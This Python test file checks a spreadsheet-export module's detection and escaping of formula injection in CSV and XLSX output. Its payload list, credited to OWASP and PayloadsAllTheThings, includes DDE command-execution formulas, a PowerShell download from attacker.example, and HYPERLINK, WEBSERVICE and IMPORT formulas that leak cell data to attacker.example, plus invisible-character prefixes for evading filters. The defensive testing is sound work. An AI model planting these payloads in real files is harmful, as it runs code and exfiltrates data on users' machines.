import io
from unittest import TestCase

import openpyxl
import pytest

from files.tables.formulas import is_formula
from files.tests.tables import csv_bytes, csv_rows, xlsx_bytes

# From OWASP's page on CSV injection, PayloadsAllTheThings, and reports of bounties.
FORMULAS = [
    "=1+1",
    '=1+1";=1+1',
    "=cmd|' /C calc'!A0",
    "=cmd|' /C calc'!'A1'",
    "=2+5+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!D2",
    "-2+3+cmd|' /C calc'!D2",
    "=2+3+cmd|' /C calc'!D2",
    "=10+20+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "=         cmd|'/c calc.exe'!A",
    "=C    m D|        '/        c       c  al  c      .  e                  x e'!A",
    '=HYPERLINK("http://attacker.example?leak="&A1&A2,"Error: click here")',
    '=HYPERLINK("file:///etc/passwd","x")',
    '=WEBSERVICE("http://attacker.example/?v="&A2)',
    '=IMPORTXML(CONCAT("http://attacker.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
    '=IMPORTFEED(CONCAT("http://attacker.example?v=", CONCATENATE(A2:E2)))',
    '=IMPORTHTML(CONCAT("http://attacker.example?v=", CONCATENATE(A2:E2)), "table",1)',
    '=IMPORTRANGE("https://docs.google.example/spreadsheets/d/1", "Sheet1!A2:E2")',
    '=IMPORTDATA("http://attacker.example/x.csv")',
    '=IMAGE("https://attacker.example/i.png?"&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    "='file:///etc/passwd'#$passwd.A1:A10",
    "=CONCATENATE(A1:E1)",
    "=SUM(A1:A9)",
    '=IF(1=1,"a","b")',
    "=A1",
    "=$A$1",
    '=CALL("Kernel32","GetTickCount","J!")',
    '=EXEC("calc.exe")',
    '=REGISTER.ID("Kernel32","Sleep","J")',
    "-A1",
    "+A1",
    "@A1",
    "-1-1",
    "+1+1",
    "--1",
    "+-1",
    "-(1)",
    "- 1",
    "-1e",
    "-1.2.3",
    "-1,000,000",
    "+49 170 123",
    "=",
    "+",
    "-",
    "@",
    "@user",
    '="=1+1"',
]
# What spreadsheets and their users' tools pass over, or take for the same.
DISGUISES = {
    "space": " {}",
    "spaces": "   {}",
    "tab": "\t{}",
    "carriage return": "\r{}",
    "line feed": "\n{}",
    "line break": "\r\n{}",
    "vertical tab": "\x0b{}",
    "form feed": "\x0c{}",
    "NUL": "\x00{}",
    "bell": "\x07{}",
    "delete": "\x7f{}",
    "next line": "\x85{}",
    "no-break space": "\xa0{}",
    "wide space": "\u3000{}",
    "zero-width space": "\u200b{}",
    "byte order mark": "\ufeff{}",
    "soft hyphen": "\xad{}",
    "right-to-left override": "\u202e{}",
    "line separator": "\u2028{}",
    "word joiner": "\u2060{}",
    "many of them": " \t\r\n\xa0\u200b {}",
}
WIDE = ["\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", " \uff1d1+1", "\ufe661"]
ODD_STARTS = ["\tabc", "\rabc", "\nabc", "\x00abc", "\t", "\t12"]
HARMLESS = [
    "",
    " ",
    "abc",
    "a=1",
    "1+1",
    "12",
    "-5",
    "+5",
    "-5.25",
    "-5,25",
    "+4917012345",
    "a@example.com",
    "'=1+1",
    '"=1+1"',
    "(1)",
    "#REF!",
    "$1",
    "Zürich",
    "日本",
    "2026-11-23",
    "/=1",
]


class FormulaTests(TestCase):
    def test_are_many(self):
        assert len(FORMULAS) >= 60

    def test_are_found(self):
        for text in [*FORMULAS, *WIDE, *ODD_STARTS]:
            with self.subTest(text):
                assert is_formula(text)

    def test_are_found_behind_what_is_passed_over(self):
        for name, disguise in DISGUISES.items():
            for text in FORMULAS:
                with self.subTest(name, text=text):
                    assert is_formula(disguise.format(text))

    def test_are_not_seen_where_there_are_none(self):
        for text in HARMLESS:
            with self.subTest(text):
                assert not is_formula(text)

    def test_get_an_apostrophe_in_csv(self):
        disguised = [form.format("=1+1") for form in DISGUISES.values()]
        for text in [*FORMULAS, *WIDE, *ODD_STARTS, *disguised]:
            with self.subTest(text):
                found = csv_rows([text], [[text], ["b"]])

                assert found == [[f"'{text}"], [f"'{text}"], ["b"]]

    def test_are_counted_in_a_warning(self):
        _, warnings = csv_bytes(["=a"], [["=b", "c"], ["@d", "-5"]])

        assert warnings[0].startswith("3 texts that a spreadsheet could take")

    def test_stay_where_the_client_wants_them(self):
        found = csv_rows(["=a"], [["=1+1"]], escape_formulas=False)

        assert found == [["=a"], ["=1+1"]]

    def test_do_not_hide_in_nested_values(self):
        found = csv_rows(["a"], [[["=1+1"]], [{"=a": "=b"}]])

        assert found[1:] == [['["=1+1"]'], ['{"=a":"=b"}']]

    def test_numbers_are_none(self):
        found = csv_rows(["a"], [[-5], [-5.5], [-(10**20)]])

        assert found[1:] == [["-5"], ["-5.5"], ["-100000000000000000000"]]

    def test_are_texts_in_xlsx(self):
        texts = [*FORMULAS, *WIDE, "http://example.com/", "mailto:a@example.com"]

        content, _ = xlsx_bytes(["=title"], [[text] for text in texts])

        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        cells = [row[0] for row in sheet.iter_rows()]
        assert [cell.value for cell in cells] == ["=title", *texts]
        assert {cell.data_type for cell in cells} == {"s"}
        assert all(cell.hyperlink is None for cell in cells)


@pytest.mark.parametrize("text", ["=1+1", "x"])
def test_formulas_are_found_in_long_texts_in_no_time(text):
    assert is_formula(" " * 1_000_000 + text) == (text == "=1+1")
